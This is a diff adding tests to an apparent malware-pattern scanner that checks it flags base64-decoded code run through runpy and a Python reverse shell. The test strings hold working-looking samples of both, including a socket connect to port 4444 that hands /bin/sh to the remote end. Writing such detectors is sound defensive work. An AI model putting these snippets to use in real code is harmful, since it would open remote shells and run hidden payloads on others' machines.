@@ -43,6 +43,44 @@ exec("print(1)")
     assert lines("python-decoded-exec", source) == []
 
 
+def test_a_runner_in_a_function_no_other_check_looks_at_is_analysed():
+    # no eval/exec/compile call: before the runners were candidates of their own, this function was left
+    # out of the analysis and the payload went unreported
+    source = """
+import base64, runpy
+def helper(x):
+    return x + 1
+def start(encoded):
+    path = base64.b64decode(encoded).decode()
+    runpy.run_path(path)
+"""
+    found = hits("python-decoded-exec", source)
+    assert [h.line for h in found] == [7] and "b64decode" in found[0].message
+
+
+def test_renamed_runners_and_socket_factories_are_still_found():
+    decoded = """
+import base64
+from importlib import import_module as load
+from runpy import run_path as start
+def go(blob):
+    start(base64.b64decode(blob).decode())
+"""
+    assert lines("python-decoded-exec", decoded) == [6]
+    shell = """
+import os, pty
+from socket import socket as Sock
+def helper():
+    return 1
+def back():
+    s = Sock()
+    s.connect((HOST, 4444))
+    os.dup2(s.fileno(), 0)
+    pty.spawn("/bin/sh")
+"""
+    assert lines("python-reverse-shell", shell) == [10]
+
+
 def test_reverse_shells_need_a_connected_socket_and_a_shell_on_its_descriptors():
     source = """
 import os, pty, socket, subprocess
